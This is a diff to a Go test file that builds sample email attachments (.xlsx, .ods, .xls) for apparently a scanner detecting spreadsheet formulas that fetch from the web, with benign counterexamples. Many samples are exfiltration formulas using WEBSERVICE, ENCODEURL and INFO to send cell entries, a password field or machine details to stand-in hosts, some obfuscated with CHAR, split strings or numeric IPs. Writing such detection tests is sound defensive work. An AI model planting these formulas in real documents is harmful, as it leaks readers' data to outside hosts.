@@ -5,35 +5,83 @@ import (
 )
 
 // formulaFetchCases: WEBSERVICE and IMAGE formulas in the places each
-// spreadsheet format keeps them, and the honest ones.
+// spreadsheet format keeps them, their addresses built from cells and
+// names, and the honest ones.
 func formulaFetchCases() map[string][]sample {
 	const sheet = "2/book.xlsx/xl/worksheets/sheet1.xml"
-	xlsx := func(from, f string) *message.Message {
-		return sentBy(from, msg(part("2", zipBytes, named("book.xlsx"), container()),
-			text(sheet, `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="str"><f>`+f+`</f><v>ok</v></c><c r="B1" t="s"><v>0</v></c></row></sheetData></worksheet>`)))
-	}
 	const other = "office@smith-plumbing.test"
-	ods := sentBy(other, msg(part("2", zipBytes, named("book.ods"), container()),
-		text("2/book.ods/content.xml", `<office:document-content xmlns:office="o" xmlns:table="t" xmlns:text="x"><office:body><office:spreadsheet><table:table><table:table-row>`+
-			`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://203.0.113.7/x?&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))" office:value-type="string"><text:p>ok</text:p></table:table-cell>`+
-			`</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`)))
+	// book is an .xlsx whose first sheet holds cells (A1 the formula f),
+	// with shared strings and defined names.
+	book := func(from, f, cells, shared, names string) *message.Message {
+		return sentBy(from, msg(part("2", zipBytes, named("book.xlsx"), container()),
+			text("2/book.xlsx/xl/workbook.xml", `<workbook xmlns="x" xmlns:r="r"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Data" sheetId="2" r:id="rId2"/></sheets><definedNames>`+names+`</definedNames></workbook>`),
+			text("2/book.xlsx/xl/_rels/workbook.xml.rels", `<Relationships xmlns="x"><Relationship Id="rId1" Type="t/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="t/worksheet" Target="worksheets/sheet2.xml"/></Relationships>`),
+			text("2/book.xlsx/xl/sharedStrings.xml", `<sst xmlns="x">`+shared+`</sst>`),
+			text("2/book.xlsx/xl/worksheets/sheet2.xml", `<worksheet xmlns="x"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>https://api.example.org/v1</t></is></c></row></sheetData></worksheet>`),
+			text(sheet, `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="str"><f>`+f+`</f><v>ok</v></c>`+cells+`</row></sheetData></worksheet>`)))
+	}
+	xlsx := func(from, f string) *message.Message {
+		return book(from, f, `<c r="B1" t="s"><v>0</v></c>`, `<si><t></t></si>`, "")
+	}
+	ods := func(cells string) *message.Message {
+		return sentBy(other, msg(part("2", zipBytes, named("book.ods"), container()),
+			text("2/book.ods/content.xml", `<office:document-content xmlns:office="o" xmlns:table="t" xmlns:text="x"><office:body><office:spreadsheet><table:named-expressions><table:named-range table:name="site" table:cell-range-address="$Sheet1.$C$1"/></table:named-expressions><table:table table:name="Sheet1"><table:table-row>`+
+				cells+`</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`)))
+	}
+	const odsExfil = `<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://203.0.113.7/x?&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))" office:value-type="string"><text:p>ok</text:p></table:table-cell>`
 	names := sentBy(other, msg(part("2", zipBytes, named("book.xlsx"), container()),
-		text("2/book.xlsx/xl/workbook.xml", `<workbook xmlns="x"><definedNames><definedName name="feed">_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://feed.example.net/a.xml"),"//title")</definedName></definedNames></workbook>`)))
-	xls := sentBy(other, msg(part("2", zipBytes, named("book.xls"), container()),
-		text("2/book.xls/web-formulas", "Sheet1!R1C1: =_xlfn.WEBSERVICE(\"http://203.0.113.7/x?\"&_xlfn.ENCODEURL(R1C2))\n")))
+		text("2/book.xlsx/xl/workbook.xml", `<workbook xmlns="x"><definedNames><definedName name="feed">_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://feed.example.net/a.xml?u="&amp;_xlfn.ENCODEURL(Sheet1!$B$9)),"//title")</definedName></definedNames></workbook>`)))
+	listing := func(s string) *message.Message {
+		return sentBy(other, msg(part("2", zipBytes, named("book.xls"), container()), text("2/book.xls/web-formulas", s)))
+	}
 	return map[string][]sample{"formula-web-fetch": {
-		{"WEBSERVICE sending a cell out (.xlsx)", xlsx(other, `_xlfn.WEBSERVICE("http://203.0.113.7/x?"&amp;_xlfn.ENCODEURL(B1))`), sheet},
-		{"FILTERXML of WEBSERVICE (.xlsx)", xlsx(other, `_xlfn.FILTERXML(_xlfn.WEBSERVICE(&quot;https://feed.example.net/a.xml&quot;),"//title")`), sheet},
+		{"WEBSERVICE sending an empty cell out (.xlsx)", xlsx(other, `_xlfn.WEBSERVICE("https://collect.example.net/x?"&amp;_xlfn.ENCODEURL(B1))`), sheet},
+		{"a host written as a number", xlsx(other, `_xlfn.FILTERXML(_xlfn.WEBSERVICE(&quot;http://203.0.113.7/a.xml&quot;),"//title")`), sheet},
+		{"a host written as one number", xlsx(other, `_xlfn.IMAGE("http://3405803783/t.png")`), sheet},
 		{"the address in pieces", xlsx(other, `_xlfn.WEBSERVICE("ht"&amp;"tp://"&amp;"files.example.net/p")`), sheet},
-		{"IMAGE from the web (Excel 365)", xlsx(other, `_xlfn.IMAGE("https://img.example.net/t.png?u=kenji")`), sheet},
-		{"a defined name", names, "2/book.xlsx/xl/workbook.xml"},
-		{"an OpenDocument spreadsheet", ods, "2/book.ods/content.xml"},
-		{"an .xls's decompiled formulas", xls, "2/book.xls/web-formulas"},
-		{"WEBSERVICE to the sender's own API", xlsx("finance@acme-corp.example", `_xlfn.WEBSERVICE("https://api.acme-corp.example/rates?d="&amp;TEXT(TODAY(),"yyyy-mm-dd"))`), ""},
-		{"WEBSERVICE to a well-known company's API", xlsx(other, `_xlfn.WEBSERVICE("https://query1.finance.yahoo.com/v7/finance/quote?symbols=MSFT")`), ""},
-		{"WEBSERVICE to the ECB's rates", xlsx(other, `_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml"),"//Cube")`), ""},
-		{"WEBSERVICE of a cell", xlsx(other, `_xlfn.WEBSERVICE(B1)`), ""},
-		{"another function named like one", xlsx(other, `GETIMAGE("https://img.example.net/t.png")`), ""},
+		{"the host spelled with CHAR", xlsx(other, `_xlfn.WEBSERVICE("https://"&amp;CHAR(102)&amp;"iles.example.net/p")`), sheet},
+		{"the address in another cell, built with an empty one", book(other, `_xlfn.WEBSERVICE(A2)`,
+			`</row><row r="2"><c r="A2" t="str"><f>"https://collect.example.net/c?u="&amp;C2</f><v>x</v></c>`, "", ""), sheet},
+		{"CONCATENATE of the sheet's address and the reader's entry", book(other, `_xlfn.WEBSERVICE(CONCATENATE(B1,"/c?name=",C1))`,
+			`<c r="B1" t="s"><v>0</v></c>`, `<si><t>https://collect.example.net</t></si>`, ""), sheet},
+		{"TEXTJOIN over a range with an empty cell", book(other, `_xlfn.WEBSERVICE(_xlfn.TEXTJOIN("",TRUE,B1:D1))`,
+			`<c r="B1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c>`, `<si><t>https://collect.example.net/c?</t></si><si><t>pw=</t></si>`, ""), sheet},
+		{"a defined name holding the address, another sheet's cell", book(other, `_xlfn.WEBSERVICE(base&amp;"/q?v="&amp;_xlfn.ENCODEURL(E1))`, "", "",
+			`<definedName name="base">Data!$A$1</definedName>`), sheet},
+		{"ENCODEURL of a form cell, pre-filled", book(other, `_xlfn.WEBSERVICE("https://collect.example.net/x?"&amp;_xlfn.ENCODEURL(B1))`,
+			`<c r="B1" t="inlineStr"><is><t>ACME-4471</t></is></c>`, "", ""), sheet},
+		{"the machine's details (INFO)", xlsx(other, `_xlfn.WEBSERVICE("https://t.example.net/o?v="&amp;INFO("osversion"))`), sheet},
+		{"a cell run through a function not evaluated", xlsx(other, `_xlfn.WEBSERVICE("https://collect.example.net/?d="&amp;SUBSTITUTE(B1," ","+"))`), sheet},
+		{"a defined name (workbook.xml)", names, "2/book.xlsx/xl/workbook.xml"},
+		{"an OpenDocument spreadsheet", ods(odsExfil), "2/book.ods/content.xml"},
+		{"an OpenDocument named range and cell", ods(`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE([.C1]&amp;&quot;?u=&quot;&amp;[.B1])"/><table:table-cell/><table:table-cell office:value-type="string"><text:p>https://collect.example.net/c</text:p></table:table-cell>`), "2/book.ods/content.xml"},
+		{"an .xls's decompiled formulas", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(\"http://203.0.113.7/x?\"&_xlfn.ENCODEURL(R1C2))\n"), "2/book.xls/web-formulas"},
+		{"an .xls's address in another cell", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(R2C1&R1C2)\nSheet1!R2C1 = \"https://collect.example.net/c?u=\"\n"), "2/book.xls/web-formulas"},
+		// Honest: the sender's own service, fixed addresses on named hosts,
+		// addresses completed by the sheet's own values, an intranet API.
+		{"WEBSERVICE to the sender's own API", xlsx("finance@acme-corp.example", `_xlfn.WEBSERVICE("https://api.acme-corp.example/rates?d="&amp;TEXT(TODAY(),"yyyy-mm-dd")&amp;"&amp;q="&amp;B1)`), ""},
+		{"a well-known company's API", xlsx(other, `_xlfn.WEBSERVICE("https://query1.finance.yahoo.com/v7/finance/quote?symbols=MSFT")`), ""},
+		{"the ECB's rates", xlsx(other, `_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml"),"//Cube")`), ""},
+		{"a feed on a named host", xlsx(other, `_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://feed.example.net/a.xml"),"//title")`), ""},
+		{"a picture from a web site", xlsx(other, `_xlfn.IMAGE("https://cdn.example.net/logo.png")`), ""},
+		{"exchange rates for the currency in a cell", book(other, `_xlfn.WEBSERVICE("https://api.rates.example/latest?base="&amp;B1&amp;"&amp;symbols="&amp;C1)`,
+			`<c r="B1" t="s"><v>0</v></c><c r="C1" t="inlineStr"><is><t>USD</t></is></c>`, `<si><t>EUR</t></si>`, ""), ""},
+		{"a stock quote for the symbols in a range", book(other, `_xlfn.WEBSERVICE("https://quotes.example.org/q?s="&amp;_xlfn.TEXTJOIN(",",TRUE,B1:C1))`,
+			`<c r="B1" t="inlineStr"><is><t>MSFT</t></is></c><c r="C1" t="inlineStr"><is><t>AAPL</t></is></c>`, "", ""), ""},
+		{"the weather for a named city, by a defined name", book(other, `_xlfn.WEBSERVICE(api&amp;"/weather?q="&amp;city)`, `<c r="B1" t="inlineStr"><is><t>London</t></is></c>`, "",
+			`<definedName name="city">Sheet1!$B$1</definedName><definedName name="api">Data!$A$1</definedName>`), ""},
+		{"Microsoft Graph", xlsx(other, `_xlfn.WEBSERVICE("https://graph.microsoft.com/v1.0/$metadata")`), ""},
+		{"the company's intranet API with the reader's entry", xlsx(other, `_xlfn.WEBSERVICE("http://finance-api/rates?ccy="&amp;B1)`), ""},
+		{"an intranet address", xlsx(other, `_xlfn.WEBSERVICE("http://10.20.0.5:8080/rates?ccy="&amp;B1)`), ""},
+		{"an address the reader types", xlsx(other, `_xlfn.WEBSERVICE(B1)`), ""},
+		{"another function named like one", xlsx(other, `GETIMAGE("https://img.example.net/t.png?u="&amp;B1)`), ""},
 		{"HYPERLINK to a share needs a click", xlsx(other, `HYPERLINK("\\203.0.113.7\share\a.xlsx","budget")`), ""},
+		{"an .xls's rates from the sheet's own cells", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(R2C1&R2C2)\nSheet1!R2C1 = \"https://api.rates.example/latest?base=\"\nSheet1!R2C2 = \"EUR\"\n"), ""},
+	}, "formula-web-hidden": {
+		{"an address from a look-up", xlsx(other, `_xlfn.WEBSERVICE(VLOOKUP("k",Data!A1:B9,2,FALSE))`), sheet},
+		{"an address from the machine", xlsx(other, `_xlfn.WEBSERVICE(INFO("directory"))`), sheet},
+		{"a host from INDIRECT", xlsx(other, `_xlfn.WEBSERVICE("https://"&amp;INDIRECT("Z"&amp;"9")&amp;"/p")`), sheet},
+		{"a fixed address is not hidden", xlsx(other, `_xlfn.WEBSERVICE("https://feed.example.net/a.xml")`), ""},
+		{"an address the reader types is not hidden", xlsx(other, `_xlfn.WEBSERVICE(B1)`), ""},
 	}}
 }
